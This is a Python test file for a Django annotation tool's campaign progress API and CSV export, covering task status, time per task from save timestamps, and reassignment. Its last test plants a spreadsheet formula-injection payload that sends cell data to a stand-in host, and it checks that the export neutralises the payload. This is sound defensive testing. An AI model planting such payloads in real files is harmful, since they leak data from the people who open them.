"""Campaign progress: done / in progress / not started per campaign and annotator, time per task
from the revisions (idle gaps capped at 10 minutes), last activity, and the CSV download; every
figure worked out by hand from the save times set below."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from django.contrib.auth import get_user_model

from annotation.accounts.services import user_create
from annotation.campaigns.models import Task
from annotation.campaigns.services import (
    campaign_create,
    polytope_campaign_create,
    task_fam_save,
    task_reassign,
    task_spans_save,
    task_submit,
    tasks_assign_manual,
)
from annotation.campaigns.timing import active_seconds, seconds_summary
from annotation.corpus.models import Dataset
from annotation.fams.models import FamRevision
from annotation.spans.models import SpanAnnotationRevision

pytestmark = pytest.mark.django_db

T = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


def at(seconds: float) -> datetime:
    return T + timedelta(seconds=seconds)


# --- the rule -------------------------------------------------------------------------------


def test_active_seconds_sums_the_gaps_between_saves_each_capped_at_ten_minutes():
    assert active_seconds([]) is None  # never saved: no time
    assert active_seconds([at(5)]) == 0  # saved once: 0 s
    assert active_seconds([at(700), at(0)]) == 600  # any order; a 700 s gap counts 600
    assert active_seconds([at(0), at(30), at(930), at(960)]) == 30 + 600 + 30
    assert active_seconds([at(0), at(100)], cap=60) == 60
    assert seconds_summary([None, 3.0, 1.0, 2.0]) == (2.0, 2.0)
    assert seconds_summary([4.0, 1.0]) == (2.5, 2.5)
    assert seconds_summary([None]) == (None, None)


# --- a FAM campaign, hand-worked ------------------------------------------------------------


def complete_facets(task, index: int) -> list[dict]:
    """A complete FAM whose first facet is supported by sentence ``index`` (so saves differ)."""
    n = task.document.references.get(position=0).facet_count
    rest = [{"groups": [], "label": "no_support", "note": ""}] * (n - 1)
    return [{"groups": [[index]], "label": "supported", "note": ""}, *rest]


def work(task, times: list[float], submitted: float | None = None) -> None:
    """Save the task's FAM once per time (set on its revisions), then maybe submit it."""
    for index, _ in enumerate(times):
        task_fam_save(
            task=task,
            user=task.annotator,
            facets=complete_facets(task, index),
            base_version=index + 1,
        )
    revisions = FamRevision.objects.filter(
        fam__annotation_set=task.campaign.annotation_set,
        fam__document=task.document,
        fam__annotator=task.annotator,
    ).order_by("version")
    for revision, seconds in zip(revisions, times, strict=True):
        FamRevision.objects.filter(pk=revision.pk).update(created_at=at(seconds))
    if submitted is not None:
        task_submit(task=task)
        Task.objects.filter(pk=task.pk).update(submitted_at=at(submitted))


@pytest.fixture
def campaign(demo):
    for name in ("ann-a", "ann-b"):
        user_create(username=name, password="pw", role="Annotator")
    campaign = campaign_create(
        dataset=Dataset.objects.get(slug="demo"),
        slug="prog",
        name="Progress",
        scorers=[],
        documents=["demo-001", "demo-002", "demo-004", "demo-005"],
    )
    a1, a2, a4, a5, b1 = tasks_assign_manual(
        campaign=campaign,
        assignments=[
            ("demo-001", "ann-a"),
            ("demo-002", "ann-a"),
            ("demo-004", "ann-a"),
            ("demo-005", "ann-a"),
            ("demo-001", "ann-b"),
        ],
    )
    work(a1, [0, 60, 200], submitted=210)  # 60 + 140 = 200 s
    work(a2, [1000, 1900, 1930], submitted=1940)  # 900 s gap counts 600, + 30 = 630 s
    work(a4, [3000, 3050], submitted=3060)  # 50 s
    work(b1, [100])  # saved once: 0 s, in progress
    campaign.tasks_by_name = {"a1": a1, "a2": a2, "a4": a4, "a5": a5, "b1": b1}
    return campaign


def test_progress_per_campaign_annotator_and_task_worked_by_hand(campaign, client_for):
    ids = {name: task.pk for name, task in campaign.tasks_by_name.items()}
    response = client_for("admin").get(f"/api/campaigns/{campaign.pk}/progress/")
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["campaign"]["id"] == campaign.pk and body["idle_cap_seconds"] == 600
    assert body["totals"] == {"done": 3, "in_progress": 1, "not_started": 1, "total": 5}
    a, b = body["annotators"]
    assert a == {
        "username": "ann-a",
        "done": 3,
        "in_progress": 0,
        "not_started": 1,
        "total": 4,
        # Done tasks took 200, 630 and 50 s: the median is 200, the mean 880 / 3.
        "seconds_per_task_median": 200.0,
        "seconds_per_task_mean": pytest.approx(293.3333333),
        "last_activity": "2026-03-02T09:51:00Z",  # the submission at T + 3060 s
    }
    assert b == {
        "username": "ann-b",
        "done": 0,
        "in_progress": 1,
        "not_started": 0,
        "total": 1,
        "seconds_per_task_median": None,  # no done task
        "seconds_per_task_mean": None,
        "last_activity": "2026-03-02T09:01:40Z",  # its one save at T + 100 s
    }
    rows = [
        (
            r["id"],
            r["document"],
            r["annotator"],
            r["status"],
            r["progress"],
            r["seconds"],
            r["revisions"],
        )
        for r in body["tasks"]
    ]
    assert rows == [
        (ids["a1"], "demo-001", "ann-a", "submitted", "done", 200.0, 3),
        (ids["a2"], "demo-002", "ann-a", "submitted", "done", 630.0, 3),
        (ids["a4"], "demo-004", "ann-a", "submitted", "done", 50.0, 2),
        (ids["a5"], "demo-005", "ann-a", "todo", "not_started", None, 0),
        (ids["b1"], "demo-001", "ann-b", "in_progress", "in_progress", 0.0, 1),
    ]
    first = body["tasks"][0]
    assert (first["first_edit"], first["last_edit"], first["submitted_at"]) == (
        "2026-03-02T09:00:00Z",
        "2026-03-02T09:03:20Z",
        "2026-03-02T09:03:30Z",
    )
    assert first["system"] is None
    untouched = body["tasks"][3]
    assert (untouched["first_edit"], untouched["last_edit"], untouched["submitted_at"]) == (
        None,
        None,
        None,
    )


def test_the_progress_csv_has_a_header_and_one_row_per_task(campaign, client_for):
    ids = {name: task.pk for name, task in campaign.tasks_by_name.items()}
    response = client_for("admin").get(f"/api/campaigns/{campaign.pk}/progress.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="prog-progress.csv"'
    assert response.content.decode().splitlines() == [
        "task,document,system,annotator,status,progress,seconds,revisions,first_edit,last_edit,"
        "submitted_at",
        f"{ids['a1']},demo-001,,ann-a,submitted,done,200.0,3,2026-03-02T09:00:00+00:00,"
        "2026-03-02T09:03:20+00:00,2026-03-02T09:03:30+00:00",
        f"{ids['a2']},demo-002,,ann-a,submitted,done,630.0,3,2026-03-02T09:16:40+00:00,"
        "2026-03-02T09:32:10+00:00,2026-03-02T09:32:20+00:00",
        f"{ids['a4']},demo-004,,ann-a,submitted,done,50.0,2,2026-03-02T09:50:00+00:00,"
        "2026-03-02T09:50:50+00:00,2026-03-02T09:51:00+00:00",
        f"{ids['a5']},demo-005,,ann-a,todo,not_started,,0,,,",
        f"{ids['b1']},demo-001,,ann-b,in_progress,in_progress,0.0,1,2026-03-02T09:01:40+00:00,"
        "2026-03-02T09:01:40+00:00,",
    ]


def test_a_reassigned_draft_counts_only_the_new_annotators_saves(campaign, client_for):
    a5 = campaign.tasks_by_name["a5"]
    work(a5, [4000])  # ann-a's one save
    task_reassign(task=a5, annotator="ann-b")
    task = Task.objects.select_related("annotator", "campaign", "document").get(pk=a5.pk)
    for version, seconds in ((3, 4100), (4, 4160)):
        task_fam_save(
            task=task,
            user=task.annotator,
            facets=complete_facets(task, version),
            base_version=version - 1,
        )
        FamRevision.objects.filter(fam__document=task.document, version=version).filter(
            fam__annotation_set=campaign.annotation_set
        ).update(created_at=at(seconds))
    body = client_for("admin").get(f"/api/campaigns/{campaign.pk}/progress/").json()
    row = next(r for r in body["tasks"] if r["id"] == a5.pk)
    # ann-a's save at 4000 s stays in the history but is not ann-b's time: 4100 -> 4160.
    assert (row["annotator"], row["seconds"], row["revisions"]) == ("ann-b", 60.0, 2)
    assert row["first_edit"] == "2026-03-02T10:08:20Z"
    b = next(a for a in body["annotators"] if a["username"] == "ann-b")
    assert (b["in_progress"], b["total"], b["last_activity"]) == (2, 2, "2026-03-02T10:09:20Z")
    a = next(a for a in body["annotators"] if a["username"] == "ann-a")
    assert (a["not_started"], a["total"]) == (0, 3)


def test_polytope_progress_names_each_items_system(demo, client_for):
    user_create(username="ann-a", password="pw", role="Annotator")
    campaign = polytope_campaign_create(
        dataset=Dataset.objects.get(slug="demo"),
        slug="pt-prog",
        name="PT",
        systems=["demo-abs", "lead-3"],
        documents=["demo-002"],
    )
    tasks = tasks_assign_manual(campaign=campaign, assignments=[("demo-002", "ann-a")])
    task = next(t for t in tasks if t.output.system.slug == "demo-abs")
    user = get_user_model().objects.get(username="ann-a")
    task_spans_save(task=task, user=user, errors=[], no_errors=True, base_version=1)
    task_spans_save(task=task, user=user, errors=[], no_errors=False, base_version=2)
    for version, seconds in ((2, 0), (3, 45)):
        SpanAnnotationRevision.objects.filter(
            annotation__annotation_set=campaign.annotation_set, version=version
        ).update(created_at=at(seconds))
    body = client_for("admin").get(f"/api/campaigns/{campaign.pk}/progress/").json()
    rows = {r["system"]: (r["progress"], r["seconds"], r["revisions"]) for r in body["tasks"]}
    assert rows == {"demo-abs": ("in_progress", 45.0, 2), "lead-3": ("not_started", None, 0)}
    csv = client_for("admin").get(f"/api/campaigns/{campaign.pk}/progress.csv").content.decode()
    assert f"{task.pk},demo-002,demo-abs,ann-a,in_progress,in_progress,45.0,2," in csv


def test_the_progress_csv_neutralises_formula_prefixes(campaign, client_for):
    """An annotator named "-2+3" (Django allows it) or a document imported as "=HYPERLINK(..)"
    must not run as formulas in a spreadsheet: such cells start with an apostrophe, as in the
    leaderboard CSV and the PolyTope workbooks."""
    a1 = campaign.tasks_by_name["a1"]
    get_user_model().objects.filter(username="ann-a").update(username="-2+3")
    type(a1.document).objects.filter(pk=a1.document_id).update(
        external_id='=HYPERLINK("http://x.example/?"&A1,"open")'
    )
    rows = client_for("admin").get(f"/api/campaigns/{campaign.pk}/progress.csv")
    lines = rows.content.decode().splitlines()
    row = next(line for line in lines if line.startswith(f"{a1.pk},"))
    assert row.startswith(f'{a1.pk},"\'=HYPERLINK(""http://x.example/?""&A1,""open"")",,\'-2+3,')
    assert all(",'-2+3," in line for line in lines[1:5])
